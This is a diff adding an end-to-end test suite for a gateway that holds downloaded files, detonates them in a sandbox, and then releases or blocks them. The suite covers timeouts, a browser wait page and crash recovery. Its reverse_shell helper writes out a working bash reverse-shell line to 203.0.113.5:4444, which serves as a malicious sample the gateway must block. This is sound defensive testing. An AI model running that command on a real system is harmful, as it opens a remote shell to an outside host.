@@ -1,0 +1,371 @@
+"""Unknown files go to a sandbox: held, released, blocked; with curl and a browser, and through kills.
+
+The samples are harmless programs that behave badly. They run in a cell of weir-detonate only.
+"""
+
+import asyncio
+import hashlib
+import io
+import json
+import os
+import pathlib
+import re
+import signal
+import subprocess
+import time
+import zipfile
+
+import websockets
+
+from browser import Browser, Page
+from weir_e2e import (BIN, DEFAULT_POLICY, SOURCE, RawOrigin, Scenario, curl, main, respond, unmapped,
+                      wait_until)
+
+HOSTS = ["files.test", "slow.test"]
+LOCAL = f"""version: 1
+engines:
+  - name: local
+    kind: local
+    concurrency: 2
+    seconds: 20
+    types: [elf, shell, python, perl]
+    signatures_file: {SOURCE}/conf/sandbox/signatures.yaml
+"""
+# A worker that is not there.
+NOBODY = """version: 1
+engines:
+  - {name: local, kind: local, start: false, socket: nobody.sock, types: [shell]}
+"""
+
+
+def policy(action="hold", holding="hold_timeout: 60s"):
+    return DEFAULT_POLICY + f"""
+holding: {{{holding}}}
+sandbox:
+  - {{name: programs, when: {{file_family: [executable, script]}}, action: {action}}}
+  - {{name: rest, action: off}}
+"""
+
+
+def honest(word="fine"):
+    return f"#!/bin/sh\n# {word}\necho {word}\n".encode()
+
+
+def reverse_shell(word="x"):
+    return f"#!/bin/bash\n# {word}\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n".encode()
+
+
+def slow(seconds, word="slow"):
+    """Busy, because sleeps do not last in there."""
+    return f"#!/bin/bash\n# {word}\nwhile [ $SECONDS -lt {seconds} ]; do :; done\n".encode()
+
+
+class Sandbox(Scenario):
+    def setUp(self):
+        super().setUp()
+        self.files = {}
+        self.origin = RawOrigin(self.answer, self.pki.issue(*HOSTS))
+        self.addCleanup(self.origin.close)
+
+    def answer(self, connection, head):
+        path = head.split(b" ")[1].decode()
+        body = self.files.get(path.split("?")[0])
+        if body is None:
+            return respond(connection, b"<!doctype html><title>t</title>here", content_type="text/html")
+        respond(connection, body, content_type="application/octet-stream",
+                headers=[f"Content-Disposition: attachment; filename=\"{path.split('?')[0].rsplit('/', 1)[1]}\""])
+
+    def begin(self, rules, sandboxes=LOCAL):
+        (self.folder / "sandbox.yaml").write_text(sandboxes)
+        self.gw = self.gateway(hosts=HOSTS, ports=[self.origin.port], policy=rules,
+                               sandbox_file="sandbox.yaml")
+
+    def url(self, path):
+        return f"https://files.test:{self.origin.port}{path}"
+
+    def get(self, path, *arguments, timeout=60):
+        """Status, body and header fields of one download."""
+        into = self.folder / "body"
+        into.unlink(missing_ok=True)
+        got = curl(self.gw, "-D", "-", "-o", into, "--max-time", timeout, *arguments, self.url(path))
+        heads = [h for h in got.stdout.replace("\r", "").strip().split("\n\n") if h]
+        last = heads[-1].splitlines()
+        fields = {line.split(":", 1)[0].lower(): line.split(":", 1)[1].strip() for line in last[1:]}
+        return int(last[0].split()[1]), into.read_bytes() if into.exists() else b"", fields
+
+    def event(self, path, match=lambda u: True):
+        return unmapped(self.gw.event(
+            lambda e: url_of(e).get("path") == path and match(unmapped(e)), f"an event of {path}"))
+
+    def navigate(self, path, *arguments):
+        """As a browser asks when a person follows a link."""
+        return self.get(path, "-A", "Mozilla/5.0", "-H", "Sec-Fetch-Mode: navigate",
+                        "-H", "Sec-Fetch-Dest: document", "-H", "Accept: text/html", *arguments)
+
+    def portal(self, url, *arguments):
+        got = curl(self.gw, "-w", "\n%{http_code}", *arguments, url).stdout
+        body, code = got.rsplit("\n", 1)
+        return int(code), body
+
+    def settled(self, url):
+        def done():
+            page = self.portal(url)[1]
+            return page if 'id="t"' not in page else None
+        return wait_until(done, "the sandbox", 60)
+
+    def test_held_until_it_is_known(self):
+        self.begin(policy())
+        self.files = {"/good.sh": honest(), "/bad.sh": reverse_shell(), "/page": None}
+        self.assertEqual(self.get("/page")[0], 200)
+        status, body, _ = self.get("/good.sh")
+        self.assertEqual((status, body), (200, self.files["/good.sh"]))
+        note = self.event("/good.sh")["sandbox"]
+        self.assertEqual((note["asked"], note["rule"], note["verdict"], note["engine"]),
+                         ("hold", "programs", "clean", "local"))
+        self.assertGreater(note["waited_ms"], 0)
+        # The second time it is known.
+        self.assertEqual(self.get("/good.sh?again")[1], self.files["/good.sh"])
+        again = unmapped(self.gw.event(lambda e: url_of(e).get("query_string") == "again"))
+        self.assertEqual((again["sandbox"]["verdict"], again["sandbox"]["waited_ms"]), ("clean", 0))
+
+        status, body, fields = self.get("/bad.sh")
+        self.assertEqual((status, fields["x-weir-action"]), (403, "block"))
+        self.assertNotIn(b"203.0.113.5", body)
+        bad = self.event("/bad.sh")
+        self.assertEqual((bad["action"], bad["verdict"], bad["sandbox"]["verdict"]),
+                         ("block", "malicious", "malicious"))
+        self.assertIn("sandbox", [finding["scanner"] for finding in bad["findings"]])
+
+        # From then on it is bad for everybody, also inside an archive.
+        packed = io.BytesIO()
+        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+            archive.writestr("inner/setup.sh", self.files["/bad.sh"])
+        self.files["/bad.zip"] = packed.getvalue()
+        self.assertEqual(self.get("/bad.zip")[0], 403)
+        found = [f for f in self.event("/bad.zip")["findings"] if f["scanner"] == "sandbox"]
+        self.assertEqual(found[0]["where"], "inner/setup.sh")
+        metrics = curl(self.gw, f"http://{self.gw.admin}/metrics", proxy=False).stdout
+        self.assertIn('weir_sandbox_verdicts_total{verdict="malicious",reason="none"} 1', metrics)
+        self.assertIn('weir_sandbox_engine_up{engine="local"} 1', metrics)
+
+    def test_programs_that_wait_hear_that_it_takes_time(self):
+        self.begin(policy(holding="hold_timeout: 60s, sign_of_life: 500ms"))
+        self.files = {"/slow.sh": slow(4)}
+        into = self.folder / "body"
+        patient = curl(self.gw, "-v", "-o", into, self.url("/slow.sh"), binary=True)
+        self.assertIn(b" 102", patient.stderr)
+        self.assertEqual(into.read_bytes(), self.files["/slow.sh"])
+        self.files["/other.sh"] = slow(2, "other")
+        unknown = curl(self.gw, "-v", "-A", "somebody/1.0", "-o", into, self.url("/other.sh"), binary=True)
+        self.assertNotIn(b" 102", unknown.stderr)
+        self.assertEqual(into.read_bytes(), self.files["/other.sh"])
+
+    def test_the_time_is_over(self):
+        self.begin(policy(holding="hold_timeout: 2s"))
+        self.files = {"/slow.sh": slow(8), "/later.sh": slow(8, "later")}
+        status, body, fields = self.get("/slow.sh", "-H", "Accept: application/json")
+        self.assertEqual((status, fields["x-weir-action"], fields["x-weir-reason"]), (503, "block", "timeout"))
+        self.assertGreater(int(fields["retry-after"]), 0)
+        self.assertEqual(json.loads(body)["kind"], "held")
+        self.assertEqual(self.event("/slow.sh")["sandbox"]["reason"], "timeout")
+        # The check went on meanwhile.
+        wait_until(lambda: self.get("/slow.sh")[0] == 200, "its verdict", 60)
+        self.gw.write_policy(policy(holding="hold_timeout: 2s, on_timeout: release"))
+        self.gw.reload()
+        wait_until(lambda: "policy in force" in self.gw.log_file_text(), "the new policy")
+        self.assertEqual(self.get("/later.sh")[:2], (200, self.files["/later.sh"]))
+        self.assertEqual(self.event("/later.sh")["action"], "alert")
+
+    def test_nobody_answers(self):
+        self.begin(policy(holding="hold_timeout: 2s, on_unavailable: block"), NOBODY)
+        self.files = {f"/{n}.sh": honest(f"n{n}") for n in range(3)}
+        self.files["/py"] = b"#!/usr/bin/python3\nprint(1)\n"
+        for name in ("/0.sh", "/1.sh"):
+            status, _, fields = self.get(name)
+            self.assertEqual(status, 503, fields)
+        # What no sandbox runs is not held up by one that is missing.
+        self.assertEqual(self.get("/py")[:2], (200, self.files["/py"]))
+        self.assertEqual(self.event("/py")["sandbox"]["reason"], "unsupported")
+        self.gw.write_policy(policy(holding="hold_timeout: 2s, on_unavailable: release, "
+                                            "on_timeout: release, on_unsupported: block"))
+        self.gw.reload()
+        wait_until(lambda: "policy in force" in self.gw.log_file_text(), "the new policy")
+        self.assertEqual(self.get("/2.sh")[:2], (200, self.files["/2.sh"]))
+        self.assertEqual(self.event("/2.sh")["action"], "alert")
+        self.assertEqual(self.get("/py?2")[0], 503)
+
+    def test_released_and_followed_up(self):
+        self.begin(policy("release"))
+        self.files = {"/bad.sh": reverse_shell("released")}
+        self.assertEqual(self.get("/bad.sh")[:2], (200, self.files["/bad.sh"]))
+        note = self.event("/bad.sh")["sandbox"]
+        self.assertEqual(note["asked"], "release")
+        self.assertNotIn("verdict", note)
+        wait_until(lambda: self.get("/bad.sh")[0] == 403, "the verdict", 60)
+
+    def test_a_page_while_it_takes(self):
+        self.begin(policy())
+        self.files = {"/tool.sh": slow(4, "tool"), "/bad.sh": reverse_shell("page")}
+        status, _, fields = self.navigate("/tool.sh")
+        self.assertEqual(status, 303)
+        link = fields["location"]
+        self.assertRegex(link, r"^https://weir\.internal/wait/[0-9a-f]{32}$")
+        code, page = self.portal(link)
+        self.assertEqual(code, 200)
+        for word in ("This file is being checked", "tool.sh", "files.test", "EventSource"):
+            self.assertIn(word, page)
+        self.assertIn("検査しています", self.portal(link, "-H", "Accept-Language: ja")[1])
+        # Who asks again comes back to the same page; nobody else sees it.
+        self.assertEqual(self.navigate("/tool.sh")[2]["location"], link)
+        self.assertEqual(self.portal(link, "--interface", "127.0.0.9")[0], 404)
+        self.assertEqual(self.portal(link[:-1] + ("0" if link[-1] != "0" else "1"))[0], 404)
+        self.assertEqual(self.portal(link, "-X", "DELETE")[0], 405)
+        self.assertNotIn(self.files["/tool.sh"].decode(), self.portal(link + "/file")[1])
+        # One stream says how it goes until it has ended.
+        stream = self.portal(link + "/events")[1]
+        self.assertIn("data: Checked for", stream)
+        self.assertIn("event: done", stream)
+        page = self.portal(link)[1]
+        self.assertIn("The file was checked", page)
+        self.assertIn("/file", page)
+        into = self.folder / "file"
+        got = curl(self.gw, "-D", "-", "-o", into, link + "/file").stdout
+        self.assertEqual(into.read_bytes(), self.files["/tool.sh"])
+        self.assertIn('filename="tool.sh"', got)
+        asked = self.event("/tool.sh")
+        self.assertEqual((asked["action"], asked["sandbox"]["page"]), ("hold", True))
+        judged = unmapped(self.gw.event(lambda e: unmapped(e).get("sandbox", {}).get("verdict") == "clean"))
+        self.assertEqual(judged["sandbox"]["url"], self.url("/tool.sh"))
+
+        link = self.navigate("/bad.sh")[2]["location"]
+        page = self.settled(link)
+        self.assertIn("The file stays blocked", page)
+        self.assertEqual(self.portal(link + "/file")[0], 200)
+        self.assertNotIn("203.0.113.5", self.portal(link + "/file")[1])
+
+    def test_in_a_browser(self):
+        self.begin(policy())
+        self.files = {"/installer.sh": slow(4, "browser"), "/trojan.sh": reverse_shell("browser")}
+        saved = self.folder / "downloads"
+        saved.mkdir()
+        browser = Browser(self.folder, self.gw)
+        shots = os.environ.get("WEIR_SHOTS")
+
+        async def download():
+            async with websockets.connect(browser.endpoint(), max_size=None) as socket_:
+                page = Page(socket_)
+                await page.call("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(saved))
+                await page.open(self.url("/page"))
+                await page.evaluate("location.href = '/installer.sh'")
+                await page.until("location.pathname.startsWith('/wait/') && document.title.includes('checked')")
+                await page.until("document.getElementById('t').textContent.includes('2 s')")
+                if shots:
+                    await page.screenshot(pathlib.Path(shots) / "wait.png")
+                # Nobody touches it: it finishes by itself.
+                await page.until("document.title == 'The file was checked'")
+                if shots:
+                    await page.screenshot(pathlib.Path(shots) / "wait-done.png")
+                wait_until(lambda: any(f.read_bytes() == self.files["/installer.sh"]
+                                       for f in saved.iterdir()), "the download")
+                await page.open(self.url("/page"))
+                await page.evaluate("location.href = '/trojan.sh'")
+                await page.until("document.title == 'The file stays blocked'")
+                if shots:
+                    await page.screenshot(pathlib.Path(shots) / "wait-blocked.png")
+        try:
+            asyncio.run(download())
+        finally:
+            browser.close()
+        self.assertEqual([f.name for f in saved.iterdir()], ["installer.sh"])
+        # One transaction for the page's stream, however long it took.
+        streams = [e for e in self.gw.events() if url_of(e).get("path", "").endswith("/events")]
+        self.assertLessEqual(len(streams), 2)
+
+    def test_a_kill_loses_and_releases_nothing(self):
+        self.begin(policy())
+        self.files = {f"/{n}.sh": slow(2, f"kill {n}") if n % 2 else reverse_shell(f"kill {n}")
+                      for n in range(6)}
+        digests = {hashlib.sha256(data).hexdigest(): name for name, data in self.files.items()}
+        waiting = []
+        for name in self.files:
+            into = self.folder / f"got{name[1:]}"
+            waiting.append((name, into, subprocess.Popen(
+                ["curl", "-s", "-o", into, "--proxy", f"http://{self.gw.proxy}", "--cacert", self.gw.ca,
+                 self.url(name)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)))
+        queue = self.gw.state / "sandbox/files"
+        wait_until(lambda: queue.exists() and len(list(queue.iterdir())) == len(self.files),
+                   "the queue to have them")
+        self.assertTrue({f.name for f in queue.iterdir()} <= set(digests))
+        self.gw.process.send_signal(signal.SIGKILL)
+        self.gw.process.wait()
+        for name, into, process in waiting:
+            process.wait(30)
+            if into.exists():
+                self.assertNotEqual(into.read_bytes(), self.files[name], name)
+        self.gw.start()
+        # The queue goes on by itself, without anybody asking again.
+        wait_until(lambda: not list(queue.iterdir()), "the queue to be empty", 90)
+        for name, data in self.files.items():
+            status, body, _ = self.get(name)
+            bad = data.startswith(b"#!/bin/bash\n# kill") and b"4444" in data
+            self.assertEqual(status, 403 if bad else 200, name)
+            self.assertEqual(body == data, not bad)
+
+    def test_the_worker_dies(self):
+        self.begin(policy())
+        self.files = {"/slow.sh": slow(3, "dies")}
+        getting = subprocess.Popen(
+            ["curl", "-s", "-o", self.folder / "got", "--proxy", f"http://{self.gw.proxy}", "--cacert",
+             self.gw.ca, "--max-time", "60", self.url("/slow.sh")])
+        worker = wait_until(lambda: self.worker(), "the worker")
+        wait_until(lambda: children(worker), "a run")
+        os.kill(worker, signal.SIGKILL)
+        getting.wait(90)
+        self.assertEqual((self.folder / "got").read_bytes(), self.files["/slow.sh"])
+        self.assertNotEqual(self.worker(), worker)
+
+    def worker(self):
+        for pid in children(self.gw.process.pid):
+            try:
+                if pathlib.Path(f"/proc/{pid}/comm").read_text().strip() == "weir-detonate":
+                    return pid
+            except OSError:
+                pass
+        return None
+
+    def test_mistakes_in_the_list_are_named(self):
+        rows = [("engines: [{kind: local}]\n", "'name' has 1 to 64"),
+                ("engines: [{name: a}]\n", "'kind' is missing"),
+                ("engines: [{name: a, kind: kape}]\n", "did you mean 'cape'?"),
+                ("engines: [{name: a, kind: cape}]\n", "'url' starts with"),
+                ("engines: [{name: a, kind: local, url: x}]\n", "url"),
+                ("engines: [{name: a, kind: local, types: [exe]}]\n", "no file type 'exe'"),
+                ("queue: {max_file: 3}\n", "did you mean 'max_files'?")]
+        for text, want in rows:
+            (self.folder / "sandbox.yaml").write_text("version: 1\n" + text)
+            (self.folder / "weir.yaml").write_text(
+                f"state_dir: {self.folder}/s\nsandbox_file: sandbox.yaml\nfeeds_file: ''\n"
+                f"policy_file: {SOURCE}/conf/policy.yaml\n"
+                "names: {brands_file: '', doh_file: '', cloud_file: ''}\n")
+            done = subprocess.run([BIN / "weir", "check", "--config", self.folder / "weir.yaml"],
+                                  capture_output=True, text=True)
+            self.assertEqual(done.returncode, 1, done.stdout + done.stderr)
+            said = done.stdout + done.stderr
+            self.assertRegex(said, r"sandbox\.yaml:2:\d+")
+            self.assertIn(want, said)
+
+
+def url_of(event):
+    return event.get("http_request", {}).get("url", {})
+
+
+def children(pid):
+    try:
+        return [int(word) for task in pathlib.Path(f"/proc/{pid}/task").iterdir()
+                for word in (task / "children").read_text().split()]
+    except OSError:
+        return []
+
+
+if __name__ == "__main__":
+    main()
